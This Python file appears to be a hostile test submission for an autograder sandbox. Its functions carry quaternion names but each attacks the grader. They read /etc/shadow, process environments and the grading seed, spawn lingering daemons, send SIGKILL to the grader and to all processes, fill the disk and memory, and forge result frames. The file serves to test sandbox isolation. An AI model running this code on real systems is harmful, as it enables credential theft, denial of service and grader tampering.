# ruff: noqa  (a hostile a1 submission, graded with no audit hook: tests/hookless.py)
"""Each function of a1 attacks the grader from inside the sandbox, with the hook gone, and
raises with what it reached: ``reached {...}`` (every list empty, every count within its
limit is the only acceptable record). Nothing here answers a case, so it earns nothing.
``@CHECKOUT@`` and ``@BUNDLE@`` are replaced by the test with the paths to aim at."""
import json
import os
import signal
import sys
import threading
import time

CHECKOUT, BUNDLE = "@CHECKOUT@", "@BUNDLE@"


def _found(**what):
    raise RuntimeError("reached " + json.dumps(what, sort_keys=True))


def quat_mul(a, b):
    """Secrets and other people's files: the seed, the bundle, the reference, the grader's
    command line and environment, the classmates' folders; the reference as a module."""
    read, listed = [], []
    for path in (f"{BUNDLE}/source/seed", f"{BUNDLE}/source/bundle.env", "/autograder/source/seed",
                 f"{CHECKOUT}/autograder/assignments/a1.py", f"{CHECKOUT}/course/__init__.py",
                 f"/proc/{os.getppid()}/cmdline", f"/proc/{os.getppid()}/environ",
                 "/proc/1/environ", "/etc/shadow", "/etc/passwd"):
        try:
            with open(path, "rb") as f:
                read.append([path, f.read(60).decode("latin-1")])
        except OSError:
            pass
    # the classmates' folders sit beside its own where there is no mount namespace
    beside = [os.path.dirname(os.getcwd())] if os.getcwd() != "/sandbox/work" else []
    for folder in ("/proc", "/autograder", CHECKOUT, "/tmp", "/var/tmp", *beside):
        try:
            listed.append([folder, os.listdir(folder)[:5]])
        except OSError:
            pass
    sys.path.insert(0, CHECKOUT)
    try:
        __import__("cou" + "rse")  # past the static check, as the security review did
        imported = True
    except ImportError:
        imported = False
    _found(read=read, listed=listed, imported_course=imported)


def quat_from_axis_angle(axis, angle):
    """Processes that outlive the grader: fork, double fork with setsid, a thread."""
    started = []
    for name, start in (("fork", os.fork), ("setsid", os.setsid)):
        try:
            pid = start()
            if pid == 0 and name == "fork":  # the daemon: detach and linger
                try:
                    os.setsid()
                    if os.fork() == 0:
                        time.sleep(30)
                finally:
                    os._exit(0)
            started.append(name)
        except OSError:
            pass
    threading.Thread(target=time.sleep, args=(30,), daemon=False).start()
    _found(started=started)


def matrix_from_quat(q):
    """Signals and pidfds to everyone else: the grader, a classmate beside it."""
    signalled = []
    me = os.getpid()
    targets = [os.getppid(), 1, *range(max(2, me - 200), me + 200)]
    for pid in targets:
        if pid == me:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            signalled.append(pid)
        except OSError:
            pass
        try:
            fd = os.pidfd_open(pid)
            signal.pidfd_send_signal(fd, signal.SIGKILL)
            signalled.append(f"pidfd {pid}")
        except (OSError, AttributeError):
            pass
    try:
        os.kill(-1, signal.SIGKILL)
        signalled.append("everyone")
    except OSError:
        pass
    _found(signalled=signalled)


def quat_from_matrix(R):
    """Fill the disk (many files, none past a per-file limit) and /dev/shm."""
    written, shm = 0, 0
    try:
        with open("/dev/shm/fill", "wb") as f:
            while shm < 256:
                f.write(b"x" * (1 << 20))
                f.flush()
                shm += 1
    except OSError:
        pass
    try:
        while written < 1024:
            with open(f"fill{written}", "wb") as f:
                f.write(b"x" * (1 << 20))
            written += 1
    except OSError:
        pass
    _found(disk_mb=written, shm_mb=shm)


def matrix_from_euler(angles, order):
    """Hold as much memory as it can get."""
    blocks = []
    try:
        while len(blocks) < 256:
            blocks.append(bytearray(64 << 20))
    except MemoryError:
        pass
    _found(memory_mb=64 * len(blocks))


def slerp(q0, q1, t):
    """Forge the answer frame with numbers no parser should trust: an integer of 5000 digits
    and one of 10**400, written to whichever descriptor is the result pipe."""
    for digits in ("9" * 5000, str(10**400)):
        body = ('{"case":0,"ok":true,"nonce":"x","value":{"kind":"array","type":"ndarray",'
                '"dtype":"float64","shape":[1],"data":[' + digits + ']}}').encode()
        frame = len(body).to_bytes(4, "big") + body
        for fd in range(3, 64):
            try:
                os.write(fd, frame)
            except OSError:
                pass
    _found(forged=True)
